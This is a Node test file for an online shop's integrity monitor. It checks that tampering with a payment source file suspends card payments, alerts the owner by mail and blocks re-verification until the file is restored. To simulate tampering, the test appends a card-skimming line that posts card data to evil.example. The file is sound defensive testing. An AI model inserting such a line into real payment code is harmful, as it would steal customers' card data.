import assert from 'node:assert/strict';
import { appendFileSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { loadConfig } from '../../src/app/config.js';
import { createServices, type Services } from '../../src/app/services.js';
import { nowIso } from '../../src/db/index.js';
import { loadIntegrityConfig } from '../../src/integrity/config.js';
import { startIntegrity, type IntegrityRuntime } from '../../src/integrity/index.js';
import { buildManifest, generateReleaseKeys, loadPrivateKey, signManifest, writeRelease } from '../../src/integrity/manifest.js';
import { releaseRoots } from '../../src/integrity/paths.js';
import { verifyAtStart } from '../../src/integrity/startup.js';
import { newId } from '../../src/shared/ids.js';
import { makeProjectTree, migrateWithIntegrity } from './helpers.js';

/**
 * Layer 2 end to end in a shop's services: a payment file changed on disk → critical alert →
 * card payments suspended → mail queued; resuming is refused by re-verification until the file is back.
 */
describe('integrity runtime (startIntegrity)', () => {
  let dataDir: string;
  let tree: string;
  let keys: string;
  let services: Services;
  let runtime: IntegrityRuntime;

  before(async () => {
    dataDir = mkdtempSync(join(tmpdir(), 'mamori-integrity-rt-'));
    keys = mkdtempSync(join(tmpdir(), 'mamori-integrity-rt-keys-'));
    tree = makeProjectTree();
    const k = await generateReleaseKeys(keys);
    const m = await buildManifest(tree, 'src', releaseRoots(tree, 'src').roots);
    await writeRelease(join(tree, 'release'), m, signManifest(m, loadPrivateKey(k.privateFile)));

    services = await createServices(loadConfig({ NODE_ENV: 'test', MAMORI_DATA_DIR: dataDir }));
    await migrateWithIntegrity(services.handle.db, 'sqlite');
    const now = nowIso();
    await services.handle.db.insertInto('staff').values({
      id: newId('stf'), email: 'owner@example.jp', email_norm: 'owner@example.jp', name: 'オーナー', role: 'owner', status: 'active', password_hash: 'x', totp_secret: null,
      totp_enabled_at: null, recovery_codes: '[]', failed_attempts: 0, locked_until: null, setup_token_hash: null, setup_expires_at: null, created_at: now, updated_at: now,
    }).execute();

    const startup = await verifyAtStart({ production: true, root: tree, publicKeyFile: k.publicFile, runtime: 'src', logger: { info: () => undefined, warn: () => undefined, error: () => undefined } });
    assert.equal(startup.status, 'verified');
    runtime = await startIntegrity(services, { config: loadIntegrityConfig({ NODE_ENV: 'development' }), startup, monitors: true });
  });
  after(async () => {
    await runtime?.stop();
    await services?.close();
    for (const d of [dataDir, tree, keys]) if (d) rmSync(d, { recursive: true, force: true });
  });

  test('off under NODE_ENV=test unless asked; never off in production', () => {
    assert.equal(loadIntegrityConfig({ NODE_ENV: 'test' }).enabled, false);
    assert.equal(loadIntegrityConfig({ NODE_ENV: 'test', MAMORI_INTEGRITY: 'on' }).enabled, true);
    assert.equal(loadIntegrityConfig({ NODE_ENV: 'production' }).enabled, true);
    assert.throws(() => loadIntegrityConfig({ NODE_ENV: 'production', MAMORI_INTEGRITY: 'off' }), /cannot be off in production/);
    assert.throws(() => loadIntegrityConfig({ ALERT_WEBHOOK_URL: 'ftp://x' }), /ALERT_WEBHOOK_URL/);
  });

  test('a changed payment file suspends card payments within 5 s, mails the owner, and blocks re-verification until restored', async () => {
    assert.deepEqual(await runtime.reverify(), { ok: true, problems: [] });
    const keepAlive = setTimeout(() => undefined, 10_000);
    const t0 = Date.now();
    const suspended = new Promise<number>((resolve) => services.killSwitch.onChange((c) => {
      if (c.state === 'suspended') resolve(Date.now());
    }));
    appendFileSync(join(tree, 'src/payments/service.ts'), 'fetch("https://evil.example/c", { method: "POST", body: card })\n');
    const ms = (await suspended) - t0;
    clearTimeout(keepAlive);
    console.log(`# payment file changed → card payments suspended in ${ms} ms`);
    assert.ok(ms <= 5000, `${ms} ms`);
    await runtime.watcher!.idle(); // the alert's fan-out (mail) finishes after the switch is written
    const state = await services.killSwitch.state();
    assert.equal(state.actor, 'system:integrity');
    assert.match(state.reason ?? '', /^payment_code_changed: /);
    const alert = (await services.alerts.listOpen()).find((a) => a.kind === 'payment_code_changed')!;
    assert.equal(alert.severity, 'critical');
    assert.ok(!alert.evidence!.includes('evil.example'), 'no file contents in the evidence');
    const mail = await services.handle.db.selectFrom('outbox').selectAll().where('dedupe_key', 'like', `alert:${alert.id}:%`).execute();
    assert.deepEqual(mail.map((m) => m.to_address), ['owner@example.jp']);
    assert.match(mail[0]!.subject, /重大なセキュリティアラート: payment_code_changed/);

    const again = await runtime.reverify();
    assert.equal(again.ok, false);
    assert.deepEqual(again.problems, ['file src/payments/service.ts: changed']);
    writeFileSync(join(tree, 'src/payments/service.ts'), 'export const pay = () => "redirect";\n');
    assert.deepEqual(await runtime.reverify(), { ok: true, problems: [] });
  });
});
